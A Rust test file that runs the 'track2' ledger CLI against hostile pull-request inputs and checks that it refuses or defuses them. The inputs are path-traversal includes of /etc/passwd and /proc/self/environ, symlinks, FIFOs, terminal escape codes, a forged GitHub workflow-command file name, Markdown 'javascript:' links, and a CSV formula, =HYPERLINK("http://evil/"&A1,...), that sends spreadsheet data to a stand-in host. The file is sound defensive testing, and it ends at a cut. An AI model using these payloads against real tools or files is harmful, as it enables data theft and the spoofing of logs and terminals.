//! track2 tried as a hostile contributor would try it (issue 11): a pull
//! request that makes CI read outside the ledger, hang, crash, overwrite
//! the wrong file, or print something that acts on a terminal, a CI log or
//! a spreadsheet. One case per class, each built in a temporary directory
//! (symlinks, FIFOs, long lines, deep include chains), each run through the
//! binary with a deadline, so that a hang fails the test instead of
//! stalling the suite.
//!
//! The conformance corpus cannot hold links or FIFOs, nor a file over the
//! size limit; the codes only these cases produce are listed in
//! [`CODES_COVERED_HERE`], which `conformance::every_code_has_an_invalid_case`
//! accepts.

use std::fs;
use std::io::{Read, Seek, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use crate::support::{AS_OF, text, track2_in};

/// Codes that no corpus file can produce, each produced by a case below.
pub const CODES_COVERED_HERE: &[&str] = &["file-too-large"];

/// What a case writes outside the ledger's root: it must never appear in
/// any output.
const CANARY: &str = "CANARY-8d1f0e";

/// Long enough for a debug build on a busy machine; a hang is forever.
const DEADLINE: Duration = Duration::from_secs(120);

/// Runs `command` to its end or the deadline, with `stdin` as its input.
/// Output goes to files, not pipes, so that a child that writes a lot
/// cannot block while the test waits.
pub fn finish(mut command: Command, stdin: Option<&[u8]>) -> Output {
    let mut stdout = tempfile::tempfile().unwrap();
    let mut stderr = tempfile::tempfile().unwrap();
    command
        .stdout(stdout.try_clone().unwrap())
        .stderr(stderr.try_clone().unwrap())
        .stdin(if stdin.is_some() { Stdio::piped() } else { Stdio::null() });
    let mut child = command.spawn().expect("the binary runs");
    if let Some(bytes) = stdin {
        let mut input = child.stdin.take().unwrap();
        // A child that stops reading early closes the pipe: not a failure.
        let _ = input.write_all(bytes);
    }
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > DEADLINE {
            let _ = child.kill();
            panic!("track2 did not finish within {DEADLINE:?}: {command:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let read_back = |file: &mut fs::File| {
        let mut bytes = Vec::new();
        file.rewind().unwrap();
        file.read_to_end(&mut bytes).unwrap();
        bytes
    };
    Output {
        status,
        stdout: read_back(&mut stdout),
        stderr: read_back(&mut stderr),
    }
}

fn run(directory: &Path, args: &[&str]) -> Output {
    finish(track2_in(directory, args), None)
}

/// Everything a run printed, for searching.
fn printed(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// A run that ended on its own, not by a signal or a panic.
fn assert_exited(output: &Output, expected: i32) {
    assert_eq!(
        output.status.code(),
        Some(expected),
        "exit status {:?}:\n{}",
        output.status,
        printed(output)
    );
}

/// A directory holding `files` (paths relative to it), and `outside/`
/// beside the ledger holding the canary.
struct Scene {
    directory: tempfile::TempDir,
}

impl Scene {
    fn new(files: &[(&str, &str)]) -> Scene {
        let scene = Scene {
            directory: tempfile::tempdir().unwrap(),
        };
        scene.write("outside/secret.track2", &format!("party XX {CANARY}\n"));
        for (path, contents) in files {
            scene.write(path, contents);
        }
        scene
    }

    fn path(&self, relative: &str) -> PathBuf {
        self.directory.path().join(relative)
    }

    fn write(&self, relative: &str, contents: &str) {
        let path = self.path(relative);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, contents).unwrap();
    }

    #[cfg(unix)]
    fn link(&self, relative: &str, target: &str) {
        let path = self.path(relative);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, path).unwrap();
    }

    fn run(&self, args: &[&str]) -> Output {
        run(self.directory.path(), args)
    }

    fn canary_path(&self) -> String {
        self.path("outside/secret.track2").display().to_string()
    }
}

const VALID: &str = "party AM Armenia\nparty AZ Azerbaijan\nformat forum Forum\n\n\
                     2025-11-04 AZ -> AM Orbeli Forum\n  format: forum\n";

/// The outputs a CI job may run on a pull request, for `paths`.
fn every_output(scene: &Scene, paths: &[&str]) -> Vec<Output> {
    let commands: [&[&str]; 6] = [
        &["check", "--as-of", AS_OF],
        &["check", "--as-of", AS_OF, "--format", "json"],
        &["check", "--as-of", AS_OF, "--format", "github"],
        &["fmt", "--check", "--diff"],
        &["summary", "--as-of", AS_OF],
        &["export", "--as-of", AS_OF, "--output", "csv"],
    ];
    commands
        .iter()
        .map(|command| {
            let mut args = command.to_vec();
            args.extend_from_slice(paths);
            scene.run(&args)
        })
        .collect()
}

fn assert_no_canary(outputs: &[Output]) {
    for output in outputs {
        let printed = printed(output);
        assert!(!printed.contains(CANARY), "the canary leaked:\n{printed}");
        assert!(
            output.status.code().is_some_and(|code| code <= 2),
            "{:?}:\n{printed}",
            output.status
        );
    }
}

#[cfg(unix)]
#[test]
fn nothing_outside_the_root_is_read_by_include_dot_dot_or_link() {
    let scene = Scene::new(&[("ledger/main.track2", VALID)]);
    let canary = scene.canary_path();
    scene.write(
        "ledger/includes.track2",
        &format!(
            "include \"../outside/secret.track2\"\ninclude \"{canary}\"\ninclude \"/proc/self/environ\"\n\
             include \"/etc/passwd\"\ninclude \"via-link.track2\"\ninclude \"dir-link/secret.track2\"\n\
             include \"sub/../../outside/secret.track2\"\n"
        ),
    );
    // A link committed into the ledger, to a file and to a directory.
    scene.link("ledger/via-link.track2", &canary);
    scene.link("ledger/dir-link", "../outside");
    scene.link("ledger/sub/env.track2", "/proc/self/environ");
    let mut command = track2_in(scene.path("").as_path(), &["check", "ledger", "--format", "github"]);
    command.env("TRACK2_TEST_SECRET", CANARY);
    let output = finish(command, None);
    assert_exited(&output, 1);
    let annotations = text(&output.stdout);
    assert!(!annotations.contains(CANARY), "{annotations}");
    assert!(!annotations.contains("root:x:0"), "/etc/passwd leaked: {annotations}");
    let outside = annotations.matches("title=include-outside-root").count();
    // Seven includes, the walked link and the link to the environment.
    assert_eq!(outside, 9, "{annotations}");

    assert_no_canary(&every_output(&scene, &["ledger"]));
}

#[cfg(unix)]
#[test]
fn a_wider_root_is_asked_for_with_root() {
    let scene = Scene::new(&[
        ("repo/shared/parties.track2", "party AM Armenia\nparty AZ Azerbaijan\n"),
        (
            "repo/ledgers/2025.track2",
            "include \"../shared/parties.track2\"\nformat forum Forum\n\n\
             2025-11-04 AZ -> AM Orbeli Forum\n  format: forum\n",
        ),
    ]);
    let output = scene.run(&["check", "repo/ledgers", "--as-of", AS_OF]);
    assert_exited(&output, 1);
    assert!(printed(&output).contains("include-outside-root"));
    let output = scene.run(&["check", "repo/ledgers", "--root", "repo", "--as-of", AS_OF]);
    assert_exited(&output, 0);
}

#[cfg(unix)]
#[test]
fn links_that_stay_within_the_root_are_followed_and_a_linked_root_is_its_target() {
    let scene = Scene::new(&[
        (
            "real/ledger/main.track2",
            "include \"parts/parties.track2\"\ninclude \"alias.track2\"\n",
        ),
        (
            "real/ledger/parts/parties.track2",
            "party AM Armenia\nparty AZ Azerbaijan\n",
        ),
        (
            "real/ledger/forum.track2",
            "format forum Forum\n\n2025-11-04 AZ -> AM Orbeli Forum\n  format: forum\n",
        ),
    ]);
    // A link inside the root, to a file inside it, is read once.
    scene.link("real/ledger/alias.track2", "forum.track2");
    // The ledger reached through a link: its root is where the link leads.
    scene.link("ledger", "real/ledger");
    for path in ["ledger", "ledger/main.track2", "real/ledger"] {
        let output = scene.run(&["check", path, "--as-of", AS_OF]);
        assert_exited(&output, 0);
        assert!(
            text(&output.stderr).contains("1 engagement"),
            "{path}: {}",
            printed(&output)
        );
    }
}

#[cfg(unix)]
#[test]
fn a_named_file_that_links_out_of_its_directory_is_refused() {
    let scene = Scene::new(&[]);
    scene.link("ledger/main.track2", &scene.canary_path());
    let outputs = every_output(&scene, &["ledger/main.track2"]);
    assert_no_canary(&outputs);
    for output in &outputs {
        assert_exited(output, 2);
        assert!(printed(output).contains("outside"), "{}", printed(output));
    }
}

#[cfg(unix)]
#[test]
fn fmt_never_writes_through_a_link_out_of_the_root() {
    let messy = "party AM    Armenia\n";
    let scene = Scene::new(&[("outside/target.track2", messy), ("ledger/a.track2", messy)]);
    scene.link("ledger/evil.track2", "../outside/target.track2");
    let output = scene.run(&["fmt", "ledger"]);
    assert_exited(&output, 1);
    assert!(
        printed(&output).contains("include-outside-root"),
        "{}",
        printed(&output)
    );
    assert_eq!(fs::read_to_string(scene.path("outside/target.track2")).unwrap(), messy);
    // The rest of the directory is still formatted, and the link stays a link.
    assert_eq!(
        fs::read_to_string(scene.path("ledger/a.track2")).unwrap(),
        "party AM Armenia\n"
    );
    assert!(
        fs::symlink_metadata(scene.path("ledger/evil.track2"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

#[cfg(unix)]
#[test]
fn dangling_and_looping_links_are_diagnostics_for_their_path() {
    let scene = Scene::new(&[("ledger/a.track2", VALID)]);
    scene.link("ledger/dangling.track2", "nowhere.track2");
    scene.link("ledger/loop.track2", "loop.track2");
    scene.link("ledger/to-dir.track2", ".");
    let output = scene.run(&["check", "ledger", "--as-of", AS_OF, "--format", "json"]);
    assert_exited(&output, 1);
    let document: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let found: Vec<(String, String)> = document["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["file"].as_str().unwrap().to_owned(),
                d["code"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let expected = [
        ("ledger/dangling.track2", "include-not-found"),
        ("ledger/loop.track2", "include-unreadable"),
        ("ledger/to-dir.track2", "not-a-regular-file"),
    ];
    let expected: Vec<(String, String)> = expected.iter().map(|(f, c)| (f.to_string(), c.to_string())).collect();
    assert_eq!(found, expected);
    // The valid file was still read and checked.
    let output = scene.run(&["check", "ledger", "--as-of", AS_OF]);
    assert!(
        printed(&output).contains("3 errors, 0 warnings in 4 files"),
        "{}",
        printed(&output)
    );
}

#[cfg(unix)]
fn make_fifo(path: &Path) {
    use std::os::unix::ffi::OsStrExt;
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let name = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: a plain call with a valid C string.
    assert_eq!(
        unsafe { libc::mkfifo(name.as_ptr(), 0o644) },
        0,
        "mkfifo {}",
        path.display()
    );
}

#[cfg(unix)]
#[test]
fn a_fifo_is_never_opened_and_nothing_hangs() {
    let scene = Scene::new(&[("ledger/a.track2", "include \"pipe.track2\"\n")]);
    make_fifo(&scene.path("ledger/pipe.track2"));
    make_fifo(&scene.path("ledger/sub/walked.track2"));
    for args in [
        &["check", "ledger", "--as-of", AS_OF][..],
        &["fmt", "ledger"][..],
        &["fmt", "--check", "ledger"][..],
        &["summary", "ledger", "--as-of", AS_OF][..],
    ] {
        let output = scene.run(args);
        assert_exited(&output, 1);
        let printed = printed(&output);
        assert!(printed.contains("not-a-regular-file"), "{args:?}: {printed}");
    }
}

#[cfg(unix)]
#[test]
fn devices_are_bounded_or_refused() {
    let scene = Scene::new(&[("ledger/a.track2", "include \"zero.track2\"\n")]);
    scene.link("ledger/zero.track2", "/dev/zero");
    let output = scene.run(&["check", "ledger"]);
    assert_exited(&output, 1);
    assert!(printed(&output).contains("include-outside-root"));
    // Named by the person running track2, a device is read as a stream,
    // up to the limit and no further.
    let mut command = track2_in(scene.path("").as_path(), &["check", "--max-file-size", "1M"]);
    command.env("TRACK2_LEDGER", "/dev/zero");
    let output = finish(command, None);
    assert_exited(&output, 2);
    assert!(
        printed(&output).contains("larger than the size limit of 1 MiB"),
        "{}",
        printed(&output)
    );
}

#[test]
fn the_size_limit_refuses_before_reading() {
    let big = format!("party AM Armenia\n{}", "# padding\n".repeat(300));
    let scene = Scene::new(&[
        ("ledger/big.track2", &big),
        ("ledger/main.track2", "include \"big.track2\"\n"),
        ("alone/big.track2", &big),
    ]);
    let output = scene.run(&["check", "ledger", "--max-file-size", "1K", "--format", "json"]);
    assert_exited(&output, 1);
    let document: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let codes: Vec<&str> = document["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["code"].as_str().unwrap())
        .collect();
    // Once walked, once included.
    assert_eq!(codes, ["file-too-large", "file-too-large"]);
    assert!(CODES_COVERED_HERE.contains(&"file-too-large"));

    let output = scene.run(&["check", "alone/big.track2", "--max-file-size", "1K"]);
    assert_exited(&output, 2);
    let output = scene.run(&["check", "alone/big.track2", "--max-file-size", "4K"]);
    assert_exited(&output, 0);
    let output = scene.run(&["fmt", "--check", "alone", "--max-file-size", "1K"]);
    assert_exited(&output, 1);
    assert!(printed(&output).contains("file-too-large"));
    let output = scene.run(&["check", "alone", "--max-file-size", "lots"]);
    assert_exited(&output, 2);
}

#[test]
fn a_chain_of_twenty_thousand_includes_neither_overflows_nor_crawls() {
    let scene = Scene::new(&[]);
    let count = 20_000;
    for index in 0..count {
        let next = if index + 1 < count {
            format!("include \"{:05}.track2\"\n", index + 1)
        } else {
            "party AM Armenia\n".to_owned()
        };
        scene.write(&format!("chain/{index:05}.track2"), &next);
    }
    let started = Instant::now();
    let output = scene.run(&["check", "chain", "--format", "json"]);
    assert_exited(&output, 1);
    let document: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let diagnostics = document["diagnostics"].as_array().unwrap();
    assert!(diagnostics.iter().all(|d| d["code"] == "include-too-deep"));
    // Every 65th file starts a new chain of 64 includes.
    assert_eq!(diagnostics.len(), (count - 1) / 65);
    assert!(started.elapsed() < Duration::from_secs(60));
}

/// A 200 KB line with a stray `\r` near its end: the column is past 65,535,
/// where miette panicked.
fn long_line_ledger() -> String {
    format!(
        "party AM Armenia\nparty AZ Azerbaijan\nformat forum Forum\n\n2025-11-04 AZ -> AM Orbeli Forum\n  format: forum\n  note: {}\r!\n",
        "pasted text ".repeat(200_000 / 12)
    )
}

#[test]
fn a_diagnostic_far_into_a_long_line_is_shown_as_a_window() {
    let scene = Scene::new(&[
        ("ledger/a.track2", &long_line_ledger()),
        ("ledger/b.track2", "party AM    X\n"),
    ]);
    for args in [
        &["check", "ledger", "--as-of", AS_OF][..],
        &["fmt", "ledger"][..],
        &["summary", "ledger", "--as-of", AS_OF][..],
        &["report", "directions", "ledger", "--as-of", AS_OF][..],
    ] {
        let output = scene.run(args);
        assert_exited(&output, 1);
        let printed = printed(&output);
        assert!(printed.contains("lone-carriage-return"), "{args:?}");
        assert!(printed.contains('…') && printed.contains("pasted text"), "{args:?}");
        assert!(printed.lines().all(|line| line.chars().count() < 400), "{args:?}");
    }
    // fmt went on to the next file of the directory.
    assert_eq!(
        fs::read_to_string(scene.path("ledger/b.track2")).unwrap(),
        "party AM X\n"
    );
}

#[test]
fn control_characters_in_a_ledger_never_reach_the_output_raw() {
    let hostile = "party AM Armenia\nparty AZ Azerbaijan\nformat forum Forum\n\n\
                   2025-11-04 AZ -> AM Orbeli\u{1b}]0;pwned\u{7} Forum\u{1b}[2J\u{9b}31m\n  format: forum\n";
    let scene = Scene::new(&[("ledger/a.track2", hostile)]);
    for output in every_output(&scene, &["ledger"]) {
        assert_exited(&output, 1);
        let printed = printed(&output);
        assert!(printed.contains("control-character"), "{printed}");
        assert!(
            !printed.chars().any(|c| c.is_control() && c != '\n' && c != '\r'),
            "a control character got through: {printed:?}"
        );
    }
}

#[cfg(unix)]
#[test]
fn file_names_are_escaped_and_start_no_workflow_command() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let scene = Scene::new(&[]);
    let forged = "x\n::warning title=Forged::Forged.track2";
    scene.write(&format!("ledger/{forged}"), "party AM    Armenia\n  bad line\n");
    let latin1 = scene.path("ledger").join(OsStr::from_bytes(b"caf\xe9.track2"));
    fs::write(&latin1, "party AZ    Azerbaijan\n").unwrap();
    // How the forged name shows in each output: escaped, then as the
    // output's own syntax writes a backslash or a colon.
    let cases: [(&[&str], &str); 4] = [
        (&["check", "ledger"], "x\\n::warning title=Forged::Forged.track2"),
        (
            &["check", "ledger", "--format", "github"],
            "x\\n%3A%3Awarning title=Forged%3A%3AForged.track2",
        ),
        (
            &["check", "ledger", "--format", "json"],
            "x\\\\n::warning title=Forged::Forged.track2",
        ),
        (
            &["fmt", "--check", "--diff", "ledger"],
            "x\\n::warning title=Forged::Forged.track2",
        ),
    ];
    for (args, shown) in cases {
        let output = scene.run(args);
        let printed = printed(&output);
        assert!(
            !printed.lines().any(|line| line.starts_with("::warning")),
            "{args:?}: a forged workflow command:\n{printed}"
        );
        assert!(!printed.contains('\u{fffd}'), "{args:?}: {printed}");
        assert!(printed.contains(shown), "{args:?}: {printed}");
        if args[0] == "fmt" {
            assert!(printed.contains("would reformat: ledger/caf\\xe9.track2"), "{printed}");
        }
    }
}

#[test]
fn csv_cells_that_would_be_formulas_are_defused() {
    let ledger = "party AM Armenia\nparty AZ Azerbaijan\nformat forum Forum\n\n\
                  2025-11-04 AZ -> AM =HYPERLINK(\"http://evil/\"&A1,\"x\")\n  id: f1\n  format: forum\n  \
                  participants: +3 AZ\n  note: @SUM(1+1)\n\n\
                  2025-12-04 AM -> AZ -1+1\n  id: f2\n  format: forum\n  reciprocates: f1\n";
    let scene = Scene::new(&[("ledger/a.track2", ledger)]);
    let output = scene.run(&["export", "ledger", "--output", "csv", "--as-of", AS_OF]);
    assert_exited(&output, 0);
    let csv = text(&output.stdout);
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(csv.contains(",'@SUM(1+1),"), "{csv}");
    assert!(csv.contains(",'+3 AZ,"), "{csv}");
    assert!(csv.contains(",'-1+1,"), "{csv}");
    let output = scene.run(&["report", "reciprocity", "ledger", "--output", "csv", "--as-of", AS_OF]);
    assert_exited(&output, 0);
    let csv = text(&output.stdout);
    assert!(csv.contains(",\"'=HYPERLINK("), "{csv}");
    assert!(csv.contains(",'-1+1,"), "{csv}");
    // A number track2 computes stays a number.
    let output = scene.run(&["report", "reciprocity", "ledger", "--output", "json", "--as-of", AS_OF]);
    assert!(
        text(&output.stdout).contains("\"lag_days\": 30"),
        "{}",
        text(&output.stdout)
    );
}

#[test]
fn a_huge_undeclared_id_gets_no_suggestion_and_no_quadratic_time() {
    let id = format!("p{}", "x".repeat(60_000));
    // A declared id about as long: the one candidate that the distance's
    // length filter lets through, which made each comparison take seconds.
    let mut ledger = format!(
        "party AM Armenia\nparty AZ Azerbaijan\nformat forum Forum\nperson p{} P\n  party: AZ\n\n",
        "y".repeat(60_000)
    );
    // Thirty such references: about 2 MB.
    for day in 1..=30 {
        ledger.push_str(&format!(
            "2025-11-{day:02} AZ -> AM Forum {day}\n  format: forum\n  participants: {id}{day}\n\n"
        ));
    }
    let scene = Scene::new(&[("ledger/a.track2", &ledger)]);
    let started = Instant::now();
    let output = scene.run(&["check", "ledger", "--as-of", AS_OF, "--format", "json"]);
    assert_exited(&output, 1);
    let document: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let diagnostics = document["diagnostics"].as_array().unwrap();
    assert_eq!(diagnostics.len(), 30);
    assert!(
        diagnostics
            .iter()
            .all(|d| !d["help"].as_str().unwrap_or_default().contains("did you mean"))
    );
    assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
}

#[cfg(unix)]
#[test]
fn pipes_and_standard_input_named_on_the_command_line_are_read_once() {
    let scene = Scene::new(&[("ledger/a.track2", VALID)]);
    let directory = scene.path("");
    for path in ["-", "/dev/stdin"] {
        let output = finish(
            track2_in(&directory, &["check", path, "--as-of", AS_OF]),
            Some(VALID.as_bytes()),
        );
        assert_exited(&output, 0);
        assert!(text(&output.stderr).starts_with("ok: 1 file, 1 engagement"));
    }
    let output = finish(
        track2_in(&directory, &["summary", "-", "--as-of", AS_OF]),
        Some(VALID.as_bytes()),
    );
    assert_exited(&output, 0);
    // What a shell's <(…) hands over: /dev/fd/N, a pipe.
    let script = format!(
        "{} check <(cat ledger/a.track2) --as-of {AS_OF}",
        env!("CARGO_BIN_EXE_track2")
    );
    let mut command = Command::new("bash");
    command.args(["-c", &script]).current_dir(&directory);
    let output = finish(command, None);
    assert_exited(&output, 0);
    // A ledger cannot name standard input.
    let output = finish(
        track2_in(&directory, &["check", "-"]),
        Some(b"include \"/dev/stdin\"\n"),
    );
    assert_exited(&output, 1);
    assert!(printed(&output).contains("include-outside-root"));
    // Nor can a stream's includes leave the current directory.
    let output = finish(
        track2_in(&directory.join("ledger"), &["check", "-"]),
        Some(b"include \"../outside/secret.track2\"\n"),
    );
    assert_exited(&output, 1);
    assert!(!printed(&output).contains(CANARY));
}

#[test]
fn a_directory_without_ledger_files_fails() {
    let scene = Scene::new(&[("wrong/notes.txt", "not a ledger")]);
    let output = scene.run(&["check", "wrong"]);
    assert_exited(&output, 2);
    assert!(text(&output.stderr).contains("no ledger files under wrong"));
    let output = scene.run(&["fmt", "--check", "wrong"]);
    assert_exited(&output, 2);
}

#[cfg(unix)]
#[test]
fn output_that_cannot_be_written_is_an_error_but_a_closed_pipe_is_not() {
    let scene = Scene::new(&[("ledger/a.track2", "party AM    Armenia\n")]);
    let directory = scene.path("");
    if Path::new("/dev/full").exists() {
        let mut command = track2_in(&directory, &["fmt", "--check", "--diff", "ledger"]);
        command.stdout(fs::File::create("/dev/full").unwrap());
        command.stderr(Stdio::null());
        let status = command.status().unwrap();
        assert_eq!(status.code(), Some(2));
    }
    for script in [
        "summary ledger --as-of 2026-01-01 >&-",
        "export ledger --as-of 2026-01-01 >&-",
        "fmt --check ledger >&-",
    ] {
        let mut command = Command::new("bash");
        command
            .args(["-c", &format!("{} {script}", env!("CARGO_BIN_EXE_track2"))])
            .current_dir(&directory);
        let output = finish(command, None);
        assert_exited(&output, 2);
        assert!(text(&output.stderr).contains("standard output is closed"), "{script}");
    }
    // Nor is `/dev/null` opened read-write, as Python's
    // `subprocess.DEVNULL` and Go's `exec` open it.
    for arguments in [
        &["summary", "ledger", "--as-of", "2026-01-01"][..],
        &["check", "ledger"],
    ] {
        let mut command = track2_in(&directory, arguments);
        let null = || fs::OpenOptions::new().read(true).write(true).open("/dev/null").unwrap();
        command.stdout(null()).stderr(null());
        assert_eq!(command.status().unwrap().code(), Some(0), "{arguments:?}");
    }
    // `>/dev/null` is not a closed output.
    let mut command = Command::new("bash");
    command
        .args([
            "-c",
            &format!(
                "{} summary ledger --as-of 2026-01-01 >/dev/null",
                env!("CARGO_BIN_EXE_track2")
            ),
        ])
        .current_dir(&directory);
    assert_exited(&finish(command, None), 0);
    // A reader that goes away early is the reader's choice.
    let mut command = Command::new("bash");
    command
        .args([
            "-c",
            &format!(
                "set -o pipefail; {} fmt --check --diff ledger | head -c 1 >/dev/null",
                env!("CARGO_BIN_EXE_track2")
            ),
        ])
        .current_dir(&directory);
    let output = finish(command, None);
    assert_eq!(output.status.code(), Some(1), "{}", printed(&output));
    assert_eq!(text(&output.stderr).lines().count(), 1, "{}", printed(&output));
}

#[test]
fn a_diff_of_a_file_whose_every_line_changes_is_not_quadratic() {
    // Every line changes, so the smallest diff is as long as the file and
    // Myers' algorithm is quadratic: this took minutes.
    let lines = 40_000;
    let messy: String = (0..lines).map(|index| format!("party P{index}    Name\n\n")).collect();
    let scene = Scene::new(&[("ledger/a.track2", &messy)]);
    let started = Instant::now();
    let output = scene.run(&["fmt", "--check", "--diff", "ledger"]);
    assert_exited(&output, 1);
    assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
    let diff = text(&output.stdout);
    // Whatever diff it settles for, it takes out every old line and puts
    // in every new one.
    assert_eq!(diff.lines().filter(|line| line.starts_with("-party")).count(), lines);
    assert_eq!(diff.lines().filter(|line| line.starts_with("+party")).count(), lines);
}

#[test]
fn since_after_until_is_a_usage_error() {
    let scene = Scene::new(&[("ledger/a.track2", VALID)]);
    let output = scene.run(&[
        "report", "timeline", "ledger", "--since", "2025-12", "--until", "2025-01",
    ]);
    assert_exited(&output, 2);
    assert!(text(&output.stderr).contains("--since 2025-12-01 is after --until 2025-01-31"));
}

#[cfg(unix)]
#[test]
fn fmt_keeps_hard_links_and_every_mode_bit() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let scene = Scene::new(&[("ledger/a.track2", "party AM    Armenia\n")]);
    let path = scene.path("ledger/a.track2");
    fs::hard_link(&path, scene.path("elsewhere.track2")).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o2755)).unwrap();
    let inode = fs::metadata(&path).unwrap().ino();
    let output = scene.run(&["fmt", "ledger"]);
    assert_exited(&output, 0);
    let metadata = fs::metadata(&path).unwrap();
    assert_eq!(metadata.ino(), inode, "the hard link is kept");
    assert_eq!(metadata.mode() & 0o7777, 0o2755);
    assert_eq!(
        fs::read_to_string(scene.path("elsewhere.track2")).unwrap(),
        "party AM Armenia\n"
    );
    // Without other links the file is replaced whole, and keeps its mode.
    scene.write("ledger/b.track2", "party AZ    Azerbaijan\n");
    let path = scene.path("ledger/b.track2");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o2755)).unwrap();
    assert_exited(&scene.run(&["fmt", "ledger"]), 0);
    assert_eq!(fs::metadata(&path).unwrap().mode() & 0o7777, 0o2755);
    assert_eq!(fs::read_to_string(&path).unwrap(), "party AZ Azerbaijan\n");
}

/// A file outside the ledger whose text any output that read it would
/// show: a line that is not a directive is quoted back by every renderer.
fn scene_with_a_loud_canary(files: &[(&str, &str)]) -> Scene {
    let scene = Scene::new(files);
    scene.write("outside/loud.track2", &format!("{CANARY} is not a directive\n"));
    scene
}

#[cfg(unix)]
#[test]
fn a_project_file_cannot_widen_the_root() {
    // The pull request brings its own track2.toml: a root above it (by
    // name, or through a link it also commits) would confine nothing.
    let ledger = "include \"../../outside/loud.track2\"\n";
    for project in [
        "root = \"..\"\n",
        "root = \"/\"\npaths = [\"ledgers\"]\n",
        "root = \"up\"\npaths = [\"up/repo/ledgers\"]\n",
    ] {
        let scene = scene_with_a_loud_canary(&[("repo/ledgers/a.track2", ledger), ("repo/track2.toml", project)]);
        scene.link("repo/up", "..");
        let repo = scene.path("repo");
        for args in [
            &["check", "--as-of", AS_OF][..],
            &["check", "--as-of", AS_OF, "--output", "github"],
            &["fmt", "--check", "--diff"],
            &["summary", "--as-of", AS_OF],
        ] {
            let output = finish(track2_in(&repo, args), None);
            assert!(!printed(&output).contains(CANARY), "{project}: {}", printed(&output));
            assert_exited(&output, 2);
            assert!(printed(&output).contains("root"), "{}", printed(&output));
        }
    }
}

#[cfg(unix)]
#[test]
fn a_named_directory_committed_as_a_link_out_of_the_current_directory_is_refused() {
    // CI names `ledgers`; the pull request made it a link, to `..` or `/`,
    // and the root would have followed it.
    let scene = scene_with_a_loud_canary(&[("repo/evil.track2", "include \"../outside/loud.track2\"\n")]);
    scene.link("repo/ledgers", "..");
    scene.link("repo/nested/ledgers", "../../outside");
    let repo = scene.path("repo");
    for path in ["ledgers", "nested/ledgers", "ledgers/outside/loud.track2"] {
        for args in [
            &["check", "--as-of", AS_OF][..],
            &["check", "--as-of", AS_OF, "--output", "github"],
            &["fmt", "--check", "--diff"],
            &["export", "--as-of", AS_OF],
        ] {
            let mut args = args.to_vec();
            args.push(path);
            let output = finish(track2_in(&repo, &args), None);
            assert!(!printed(&output).contains(CANARY), "{path}: {}", printed(&output));
            assert_exited(&output, 2);
        }
    }
    // Asked for, a wider root is still the user's to give.
    let output = finish(
        track2_in(&repo, &["check", "nested/ledgers", "--root", "..", "--as-of", AS_OF]),
        None,
    );
    assert_exited(&output, 1);
    assert!(printed(&output).contains(CANARY));
}

#[test]
fn a_direction_of_many_parties_takes_linear_time() {
    // Each party was compared with every one before it, and each
    // participant's party with the whole visiting side: 100,000 parties
    // took minutes.
    let parties = 100_000;
    let mut ledger: String = (0..parties).map(|index| format!("party P{index} Party\n")).collect();
    ledger.push_str("format forum Forum\n\n2025-11-04 ");
    let origin: Vec<String> = (1..parties).map(|index| format!("P{index}")).collect();
    ledger.push_str(&origin.join(" + "));
    ledger.push_str(" -> P0 Forum\n  format: forum\n  participants: ");
    let counts: Vec<String> = (1..parties).map(|index| format!("+1 P{index}")).collect();
    ledger.push_str(&counts.join(", "));
    ledger.push('\n');
    let scene = Scene::new(&[("ledger/a.track2", &ledger)]);
    let started = Instant::now();
    let output = scene.run(&["check", "ledger", "--as-of", AS_OF]);
    assert_exited(&output, 0);
    assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
}

#[test]
fn ledger_text_is_inert_in_markdown_csv_and_every_json() {
    // Allowed in a ledger (none is a control character), each acts where
    // it lands: a bidirectional override reorders a log line, `<img>` and
    // `[x](…)` render in a pull request's summary, and a formula hides
    // behind a blank or a quote.
    let ledger = "party AM Armenia\nparty AZ Azerbaijan\nformat forum \"=1+2\n\n\
                  person p1 Evil \u{202e}name <img src=x> [x](javascript:y) `z`\n  party: AZ\n\n\
                  2025-11-04 AZ -> AM Forum\n  format: forum\n  venue: \u{a0}=HYPERLINK(\"x\")\n  \
                  participants: p1\n\n\
                  2025-11-05 AZ -> AM Forum\n  format: forum\n  id: bad\u{202e}id\n";
    let scene = Scene::new(&[("ledger/a.track2", ledger)]);
    for output in ["sarif", "gitlab", "json"] {
        let printed = printed(&scene.run(&["check", "ledger", "--as-of", AS_OF, "--output", output]));
        assert!(!printed.contains('\u{202e}'), "{output}: {printed}");
    }
    scene.write("ledger/a.track2", &ledger.replace("  id: bad\u{202e}id\n", ""));
    let markdown = scene.run(&["report", "participants", "ledger", "--as-of", AS_OF, "-o", "markdown"]);
    assert_exited(&markdown, 0);
    let markdown = text(&markdown.stdout);
    assert!(
        markdown.contains("\\<img src=x\\> \\[x\\](javascript:y) \\`z\\`"),
        "{markdown}"
    );
    let json = text(
        &scene
            .run(&["report", "participants", "ledger", "--as-of", AS_OF, "-o", "json"])
            .stdout,
    );
    assert!(!json.contains('\u{202e}') && json.contains("\\u202e"), "{json}");
    let formats = text(
        &scene
